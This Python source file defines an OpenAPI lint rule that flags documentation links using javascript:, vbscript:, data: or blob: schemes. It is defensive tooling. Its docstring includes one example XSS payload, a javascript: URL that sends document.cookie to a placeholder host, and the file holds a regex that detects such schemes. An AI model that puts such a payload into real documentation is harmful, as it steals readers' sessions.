"""No address is a script.

Why:
    Documentation pages make links of the addresses in a spec. One that begins with `javascript:` or `data:` runs in the
    reader's browser, with the reader's session (CWE-79).

Bad:
    externalDocs: {url: "javascript:fetch('//x.example/'+document.cookie)"}

Good:
    externalDocs: {url: "https://docs.shop.example/orders"}

Irrelevant:
    info: {title: Order Service, version: 1.0.0, description: "Write javascript: in front of it."}
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from scaffold.core.finding import Severity
from scaffold.lint.catalog.rule import Rule, Violation
from scaffold.lint.catalog.targets import LINKS
from scaffold.lint.facts.facts import Facts
from scaffold.openapi.document import Node

# Browsers pass over white space and control characters at the beginning and inside of a scheme.
_IGNORED = re.compile(r"[\x00-\x20]")
_SCRIPT = re.compile(r"(javascript|vbscript|data|blob):", re.IGNORECASE)


def _judge(url: Node, _: Facts) -> Iterator[Violation]:
    found = _SCRIPT.match(_IGNORED.sub("", str(url.value)))
    if found:
        yield Violation(url, f"an address of the scheme {found[1].lower()} is a program or a page of its own")


RULE = Rule(
    id="sec-script-url",
    doc=__doc__,
    severity=Severity.ERROR,
    on=LINKS,
    judge=_judge,
    fix="link to a page, with https",
)
